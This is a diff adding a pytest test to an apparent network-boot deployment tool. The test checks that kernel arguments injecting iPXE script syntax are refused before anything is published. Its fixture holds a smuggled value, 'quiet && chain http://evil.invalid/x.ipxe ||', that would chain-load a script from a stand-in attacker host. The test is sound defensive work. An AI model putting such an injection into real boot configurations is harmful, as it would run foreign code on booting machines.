@@ -59,6 +59,19 @@ def test_malformed_mac_is_refused_before_anything_is_published(tmp_path):
     assert not (site["root"] / "images").exists()
 
 
+@pytest.mark.fault
+def test_kernel_args_that_chain_a_foreign_ipxe_script_are_refused_before_anything_is_published(tmp_path):
+    """Issue 25: a node's kernel_args reach the iPXE kernel line, where && / || are script syntax."""
+    injection = "quiet && chain http://evil.invalid/x.ipxe ||"
+    site = setup_site(tmp_path, nodes={"n1": {**GOOD_NODE, "hpc_stateless_boot_kernel_args": injection}})
+    make_pack(site["out"], version="v1")
+    proc = deploy(site)
+    assert proc.returncode != 0
+    assert "nodes[0] (n1).kernel_args: kernel argument '&&' holds '&', which iPXE or pxelinux would read as script " \
+        "syntax" in proc.stdout.replace("\n", " "), proc.stdout[-3000:]
+    assert not (site["root"] / "images").exists()
+
+
 def test_unknown_image_is_refused(tmp_path):
     site = setup_site(tmp_path)
     make_pack(site["out"], version="v1")
